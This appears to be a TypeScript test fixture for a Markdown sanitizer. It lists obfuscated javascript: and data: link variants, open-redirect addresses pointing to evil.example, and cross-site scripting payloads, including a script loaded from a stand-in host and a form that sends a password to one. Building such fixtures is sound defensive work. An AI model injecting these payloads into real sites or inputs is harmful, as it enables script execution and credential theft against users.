const schemes = [
  'javascript', 'JavaScript', 'jAvAsCrIpT', 'data', 'vbscript', 'intent', 'smb', 'blob', 'view-source', 'file', 'ftp', 'ftps', 'ws', 'wss', 'chrome',
  'about', 'search-ms', 'ms-settings', 'tel', 'sms', 'whatsapp', 'steam', 'x-apple', 'itms', 'jar', 'feed', 'filesystem', 'livescript', 'mocha', 'ed2k',
  'web+afterword', 'magnet', 'bitcoin', 'sip', 'ldap', 'gopher', 'telnet', 'ssh', 'git', 'urn', 'resource', 'ms-word', 'vnd.youtube', 'content', 'app',
] // biome-ignore format: a list

const addresses = [
  ...schemes.flatMap((scheme) => [`${scheme}:alert(1)`, `${scheme}://example.org/x`, `${scheme}:https://example.org`]),
  // Broken up, spelled otherwise or hidden.
  'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\rscript:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)', 'java\u200bscript:alert(1)', 'java\u00adscript:alert(1)', 'ｊavascript:alert(1)',
  'javaſcript:alert(1)', 'javascript\u0000:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3A;alert(1)',
  'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;&#x76;ascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)',
  'javascript%3Aalert(1)', '%6Aavascript:alert(1)', 'javascript\\:alert(1)', '\\javascript:alert(1)', 'java\\script:alert(1)', 'javascript&amp;colon;alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=alert(1)>', 'data&colon;text/html,x',
  // Where it leads depends on where it stands.
  '//evil.example', '///evil.example', '\\\\evil.example', '/\\evil.example', '\\/evil.example', '/path', 'path', './path', '../path', '?query', '#fragment', '',
  'https:evil.example', 'http:evil.example', 'https:/evil.example', 'http:/evil.example', 'https:\\\\evil.example', 'https:/\\evil.example', 'http:?x', 'https:#x',
  'HTTPS:evil.example', 'https:', 'http://', 'https:///', 'http:///evil.example', 'https://', 'https://[', 'https://%', 'https:// evil.example', 'mailto', 'http',
] // biome-ignore format: a list

/** Sources in which an address tries to become a link it must not be, each in every form Markdown has for links. */
export const hostileLinks: string[] = addresses.flatMap((address) => [
  `[words](${address})`,
  `[words](<${address}>)`,
  `[words](${address} "title")`,
  `<${address}>`,
  address,
  `![image](${address})`,
  `[words][ref]\n\n[ref]: ${address}`,
  `<a href="${address}">words</a>`,
  `[*words*\n](${address})`,
])

/** Sources in which somebody tries to write HTML or attributes. */
export const hostileHtml: string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example></SCRIPT>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>', '<iframe src=javascript:alert(1)>', '<body onload=alert(1)>', '<style>@import "//evil"</style>',
  '<a href="javascript:alert(1)">x</a>', '<form action=//evil><input name=password>', '<base href=//evil>', '<meta http-equiv=refresh content=0>', '<object data=x>',
  '[x](https://example.org "onmouseover=alert(1) x=")', '[x](https://example.org"onmouseover="alert(1))', `[x](https://example.org'onclick='alert(1))`,
  '[x](https://example.org/?"><script>alert(1)</script>)', '<https://example.org/"onclick="alert(1)>', 'https://example.org/"onmouseover="alert(1)',
  '[<img src=x onerror=alert(1)>](https://example.org)', '[x](<https://example.org/><script>alert(1)</script>)', '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```', '```" onclick="alert(1)\nx\n```', '```<script>\nx\n```', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;',
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?>', '<!DOCTYPE html>', '<x:script>', '</p><script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '{{constructor.constructor("x")()}}',
] // biome-ignore format: a list
